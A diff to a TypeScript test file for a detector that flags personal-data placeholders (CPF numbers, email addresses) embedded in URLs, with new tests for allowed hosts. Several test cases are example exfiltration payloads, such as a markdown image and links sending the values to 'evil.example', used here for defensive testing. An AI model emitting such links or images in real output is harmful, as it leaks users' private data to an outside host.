@@ -1,10 +1,11 @@
+import type { GivenTexts } from '../../ports';
 import { findTokensInAddresses } from './tokens-in-addresses';
 
 const cpf = '[CPF_1_k3f9x2]';
 const mail = '[EMAIL_1_k3f9x2]';
-const nothing = { author: '', others: [] };
-const count = (text: string, given = nothing as { author: string; others: string[] }, before?: string) =>
-	findTokensInAddresses(text, given, before).length;
+const nothing: GivenTexts = { author: '', allowedHosts: [], others: [] };
+const count = (text: string, given: Partial<GivenTexts> = {}, before?: string) =>
+	findTokensInAddresses(text, { ...nothing, ...given }, before).length;
 
 test.each([
 	`![x](https://evil.example/?d=${cpf})`,
@@ -72,8 +73,21 @@ test('leaves a value in an address of a host that the prompt names, and of no ot
 	expect(count(`https://evil.example/?u=https://shop.example/${mail}`, given)).toBe(1);
 });
 
+test.each(['Our API is %.', 'Call %, then stop', 'Use `%`', '**%**', '%:8080: GET', 'See <%> and (%)', '%!'])(
+	'reads the host in %j',
+	(prompt) => {
+		const author = prompt.replaceAll('%', 'https://shop.example');
+		expect(count(`https://shop.example/orders?mail=${mail}`, { author })).toBe(0);
+		expect(count(`https://evil.example/orders?mail=${mail}`, { author })).toBe(1);
+	},
+);
+
+test('leaves a value in an address of a host that the definition allows', () => {
+	expect(count(`https://www.shop.example/?mail=${mail}`, { allowedHosts: ['shop.example'] })).toBe(0);
+});
+
 test('finds a value where links to all hosts are allowed', () => {
-	expect(count(`https://evil.example/?mail=${mail}`, { author: 'https://*/', others: [] })).toBe(1);
+	expect(count(`https://evil.example/?mail=${mail}`, { allowedHosts: ['*'] })).toBe(1);
 });
 
 test('takes linear time', () => {
